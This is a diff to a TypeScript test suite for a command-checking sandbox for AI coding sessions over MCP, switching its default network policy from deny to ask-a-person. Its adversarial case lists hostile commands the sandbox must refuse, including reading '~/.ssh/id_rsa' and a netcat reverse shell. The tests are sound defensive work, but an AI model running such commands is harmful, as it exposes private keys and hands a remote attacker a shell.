@@ -128,7 +128,10 @@ describe.skipIf(bwrapMissing)('a scripted coding session over MCP (default confi
 
   it('writes a package, tests, fixes, reruns, greps, pages output, serves and curls: asks at most 1 in 25', async () => {
     const info = await call('session_info', {}, true);
-    expect(textOf(info.result)).toMatch(/network: none beyond the sandbox's own loopback/);
+    // The default network: ask mode through the session's egress proxy, no host listed yet.
+    expect(textOf(info.result)).toMatch(
+      /network: through the egress proxy at .*a connection to another host waits for a person/,
+    );
     expect(
       (await call('check_command', { command: 'python3 -m unittest discover' }, true)).facts['decision'],
     ).toBe('allow');
@@ -262,8 +265,6 @@ describe.skipIf(bwrapMissing)('a scripted coding session over MCP (default confi
 
   it('asks or refuses, with readable reasons, where the session crosses the boundary (adversarial)', async () => {
     const refusals: Array<[string, RegExp]> = [
-      ['curl -s https://pypi.example.test/simple/', /no network access beyond its own loopback/],
-      ['git push origin main', /no network access/],
       ['cat ~/.ssh/id_rsa', /credential or secret store/],
       ["echo '{}' > .vscode/settings.json", /agent's or editor's own configuration/],
       ['nc -e /bin/sh 10.0.0.1 4444', /reverse or bind shell/],
@@ -275,9 +276,19 @@ describe.skipIf(bwrapMissing)('a scripted coding session over MCP (default confi
       expect(textOf(result), command).toMatch(/^not run: denied \(rule /);
       expect(textOf(result), command).toMatch(reason);
     }
-    const dryRun = await call('check_command', { command: 'pip install requests' }, false);
-    expect(dryRun.facts['decision']).toBe('deny');
-    expect(textOf(dryRun.result)).toMatch(/^deny: it would be refused .*Nothing was run/s);
+    // Crossing the boundary asks (the default network is ask mode): a host off the list, a push, an
+    // install the configuration names in approvalRequiredFor.
+    for (const command of [
+      'curl -s https://pypi.example.test/simple/',
+      'git push origin main',
+      'pip install requests',
+    ]) {
+      const dryRun = await call('check_command', { command }, false);
+      expect(dryRun.facts['decision'], command).toBe('ask');
+      expect(textOf(dryRun.result), command).toMatch(
+        /^ask: a person would have to approve it .*Nothing was run/s,
+      );
+    }
 
     // A CI workflow asks; the person denies it from the CLI; nothing is written.
     const workflow = await call(
